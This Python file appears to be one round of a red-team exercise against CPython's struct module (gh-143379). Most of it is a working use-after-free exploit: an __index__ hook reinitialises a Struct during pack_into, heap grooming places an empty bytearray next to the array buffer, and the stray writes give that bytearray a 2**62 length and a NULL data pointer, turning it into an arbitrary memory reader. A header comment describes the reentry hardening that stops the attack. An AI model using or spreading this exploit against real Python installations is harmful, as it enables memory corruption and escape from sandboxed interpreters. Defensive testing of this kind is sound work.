# Red team round 21 (CPython gh-143379, Debian bookworm's 3.11.2 and trixie's 3.13.5): Struct.pack_into walks
# the Struct's format codes while it converts each value, and a value's `__index__` may call the same
# Struct's `__init__`, which frees the codes block the loop is reading. For '8q' that block (one code of
# repeat 8 and the end marker) is 64 bytes; a bytes(16) made right after takes it, so the loop's code->size
# becomes the bytes' length (16): the 7 values left are written 16 bytes apart, past the 64 bytes pack_into
# checked. The buffer is an array's 64-byte item buffer found directly before an empty bytearray's header
# (the same size class): the writes set that bytearray's length to 2**62 and leave its data pointer NULL,
# so `mem[x]` reads address x. Then _common.py. Offsets are 3.11's (x86-64).
# Closed: _r2e_kernel.harden_type with verifier_kernel's `_REENTRY` table: a Struct's pack, pack_into,
# unpack, unpack_from and iter_unpack are exclusive on their object, and its `__init__` is refused while a
# call of it is active, so the `__index__` above raises instead of freeing the codes.
# (After reentry/_prelude.py: `f` and `touch`.)
import array
import struct

SPRAY = [bytearray() for _ in range(4000)]
KEEP = []


def neighbours():
    """An array whose item buffer is exactly 64 bytes, and an empty bytearray whose header follows it."""
    for _ in range(4000):
        a = array.array('B', bytes(1)) * 64
        b = bytearray()
        KEEP.append((a, b))
        if id(b) == a.buffer_info()[0] + 64:
            return a, b
    raise RuntimeError("no bytearray right after a 64-byte array buffer")


def reader():
    a, mem = neighbours()
    s = struct.Struct('8q')

    class Reinit:
        def __index__(self):
            s.__init__('q')
            KEEP.append(bytes(16))
            return 0

    # written at +0, then every 16 bytes: +64 the neighbour's refcount, +80 its length, +96 its data
    # pointer, +112 its export count
    s.pack_into(a, 0, Reinit(), 0, 0, 0, 1 << 40, 1 << 62, 0, 0)
    assert type(mem) is bytearray and len(mem) == 1 << 62
    return mem


def test_structure():
    assert_structure(reader())
